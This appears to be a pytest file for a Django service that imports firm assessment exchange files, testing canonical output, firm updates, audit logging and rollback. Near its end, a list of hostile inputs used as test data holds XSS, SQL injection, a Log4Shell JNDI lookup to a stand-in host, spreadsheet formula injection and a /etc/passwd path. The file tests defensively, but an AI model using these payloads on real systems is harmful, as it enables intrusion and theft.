"""A good file becomes a firm, an assessment and a result; the same file again updates what came in through a file."""

import copy
import hashlib
from typing import Any

import pytest

from accounts.models import AuditEntry, Organisation, User
from accounts.services import assign_consultant
from assessments.errors import InvalidInput
from assessments.models import Answer, Assessment, Firm, Result
from assessments.selectors import amounts_of, answers_of
from assessments.services import import_exchange, load_exchange, record_answers, start_assessment
from assessments.services.exchange import check_exchange, document_of_exchange
from assessments.services.grading import canonical_json
from tests.assessments.record import as_bytes, good_document, nothing_stored
from tests.conftest import PERIOD

pytestmark = [pytest.mark.django_db, pytest.mark.database]

# The inputs of one result, byte for byte: what SQLite and PostgreSQL are both held to.
INPUTS = (
    '{"firm":{"name":"示例精密机械有限公司","uscc":"91320594MA1X2Y3T4K","industry":"C34","province":"江苏","employees":80,'
    '"revenue_wan":"6000.1","production":"discrete","trimmed":["product-service"]},"period":2025,'
    '"answers":{"IM-DATA-L1-1":"1","BAR-UNABLE-METHOD":"2"},'
    '"activity":[{"year":2024,"code":"water_taken","value":"0.1","unit":"万m3"},'
    '{"year":2025,"code":"electricity_grid","value":"1200.5","unit":"万kWh"},'
    '{"year":2025,"code":"value_added","value":"1600","unit":"万元"}],'
    '"references":[{"reading":"green-factory-2018","indicator":"energy-intensity","base":"0.5","lead":"0.2",'
    '"unit":"tce/万元","source":"sector sheet 2025","origin":"firm","valid_from":"","status":""},'
    '{"reading":"green-factory-2025","indicator":"waste-utilisation","base":"55.02","lead":"96","unit":"%",'
    '"source":"fact-national-benchmarks, baseline: national utilisation of industrial solid waste 2019, a scope '
    "dominated by tailings; leading value: local near-zero-carbon park reference 2024, 96 % and above; pairing the "
    'two is the tool\'s own","origin":"default","valid_from":"2025-12-31","status":"own"}],'
    '"factor_set":"gbt-32151-2024"}'
)


def brought_in(document: dict[str, Any]) -> Result:
    return import_exchange(exchange=load_exchange(as_bytes(document)), by=None)


def test_a_file_leaves_what_it_says() -> None:
    document = good_document()
    result = brought_in(document)
    assessment = Assessment.objects.get()
    assert result.assessment == assessment
    assert (assessment.period, assessment.is_draft, assessment.submitted_by) == (PERIOD, False, None)
    assert answers_of(assessment) == document["answers"]
    assert [(row.code, str(row.value.normalize()), row.unit) for row in amounts_of(assessment)] == [
        ("electricity_grid", "1.2E+2", "万kWh"),
        ("value_added", "1.6E+3", "万元"),
    ]
    assert assessment.references.get().source == "sector sheet 2025"
    assert not assessment.firm.organisation.memberships.exists()


def test_storing_and_not_storing_give_the_same_bytes() -> None:
    exchange = load_exchange(as_bytes(good_document()))
    assert import_exchange(exchange=exchange, by=None).text.encode() == canonical_json(document_of_exchange(exchange))


def test_the_same_input_gives_the_same_bytes_on_every_database() -> None:
    document = good_document()
    document["answers"] = {"BAR-UNABLE-METHOD": 2, "IM-DATA-L1-1": "1"}
    document["firm"]["revenue_wan"] = "6000.1000"
    document["activity"][0]["value"] = "1,200.50"
    document["activity"].append({"year": 2024, "code": "water_taken", "value": "0.10", "unit": "万m3"})
    result = Result.objects.get(pk=brought_in(document).pk)
    assert f'"inputs":{INPUTS},"readings":' in result.text
    assert result.inputs_sha256 == hashlib.sha256(INPUTS.encode()).hexdigest()


def test_the_order_of_a_file_leaves_no_trace_in_the_result() -> None:
    document = good_document()
    document["activity"].append({"year": 2024, "code": "heat", "value": "7", "unit": "GJ"})
    turned = copy.deepcopy(document)
    turned["answers"] = dict(reversed(turned["answers"].items()))
    turned["activity"].reverse()
    turned = dict(reversed(turned.items()))
    texts = [canonical_json(document_of_exchange(check_exchange(each))) for each in (document, turned)]
    assert texts[0] == texts[1]


def test_the_same_code_again_updates_the_firm_and_adds_a_result() -> None:
    first = brought_in(good_document())
    text = first.text
    document = good_document()
    document["firm"] |= {"name": "改名后的示例厂", "employees": 320}
    document["answers"]["IM-DATA-L1-1"] = "0"
    second = brought_in(document)
    firm = Firm.objects.get()
    assert (firm.name, firm.employees) == ("改名后的示例厂", 320)
    assert (first.assessment.firm_id, second.assessment.firm_id) == (firm.pk, firm.pk)
    assert first.assessment_id != second.assessment_id
    assert Result.objects.get(pk=first.pk).text == text, "what was computed before stays"
    assert (first.size, second.size) == ("small", "medium")


def test_an_unfinished_draft_of_that_firm_and_year_is_filled_anew() -> None:
    firm = brought_in(good_document()).assessment.firm
    draft = start_assessment(firm=firm, period=PERIOD, by=None)
    record_answers(assessment=draft, section="technology.data", answers={"IM-DATA-L3-1": "1"}, version=0, by=None)
    document = good_document()
    del document["answers"]["IM-DATA-L3-1"]
    result = brought_in(document)
    assert result.assessment == draft
    assert "IM-DATA-L3-1" not in answers_of(draft)


@pytest.mark.parametrize("person", ["owner", "editor", "viewer"])
def test_a_firm_that_has_people_is_never_touched(firm: Firm, request: pytest.FixtureRequest, person: str) -> None:
    if person != "owner":
        request.getfixturevalue(person)
        firm.organisation.memberships.exclude(role=person).delete()
    document = good_document()
    document["firm"] |= {"name": "同一代码的另一家", "employees": 5}
    result = brought_in(document)
    fresh = Firm.objects.get(pk=firm.pk)
    assert (fresh.name, fresh.employees) == ("示例精密机械有限公司", 80)
    assert result.assessment.firm_id != firm.pk
    assert not Assessment.objects.filter(firm=firm).exists()


def test_of_two_firms_with_the_code_the_one_without_people_is_updated(firm: Firm) -> None:
    from_file = brought_in(good_document()).assessment.firm
    again = brought_in(good_document()).assessment.firm
    assert again == from_file != firm
    assert Firm.objects.count() == 2


def test_an_assigned_consultant_does_not_stop_a_second_file(consultant: User) -> None:
    first = brought_in(good_document()).assessment.firm
    assign_consultant(organisation=first.organisation, consultant=consultant, by=None)
    assert brought_in(good_document()).assessment.firm == first


def test_open_questions_make_readings_incomplete_and_not_the_file_bad() -> None:
    document = good_document()
    document["answers"] = {"IM-DATA-L1-1": None}
    result = brought_in(document)
    assert {reading["status"] for reading in result.document["readings"]} == {"incomplete"}
    assert (result.level, result.tier) == ("", "")
    assert not Answer.objects.exists(), "null is unanswered"


def test_every_step_of_a_file_is_in_the_audit_log() -> None:
    brought_in(good_document())
    brought_in(good_document())
    verbs = list(AuditEntry.objects.order_by("number").values_list("verb", flat=True))
    once = ["start assessment", "submit assessment"]
    assert verbs == ["create organisation", *once, "update firm", *once]
    assert set(AuditEntry.objects.values_list("actor", flat=True)) == {"system"}


def test_a_failure_at_the_very_end_leaves_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(**_: Any) -> None:
        raise RuntimeError("no space left")

    monkeypatch.setattr("assessments.services.exchange.submit_assessment", broken)
    exchange = load_exchange(as_bytes(good_document()))
    with nothing_stored(), pytest.raises(RuntimeError):
        import_exchange(exchange=exchange, by=None)


def test_a_bad_file_touches_no_database(django_assert_num_queries: Any) -> None:
    document = good_document()
    document["answers"]["NOPE"] = "1"
    with django_assert_num_queries(0), pytest.raises(InvalidInput):
        load_exchange(as_bytes(document))


HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "Robert'); DROP TABLE assessments_answer;--",
    "{{ firm.secret_key }}",
    "${jndi:ldap://x.example/a}",
    '=HYPERLINK("http://x.example")',
    "\u202egnp.exe 示例厂",
    "𠮷🏭é\u0301",
    "NULL",
    "/etc/passwd%00.json",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_in_a_name_is_kept_letter_by_letter(name: str) -> None:
    document = good_document()
    document["firm"]["name"] = name
    document["references"][0]["source"] = name
    result = brought_in(document)
    assert Organisation.objects.get().name == name
    inputs = Result.objects.get(pk=result.pk).document["inputs"]
    assert (inputs["firm"]["name"], inputs["references"][0]["source"]) == (name, name)
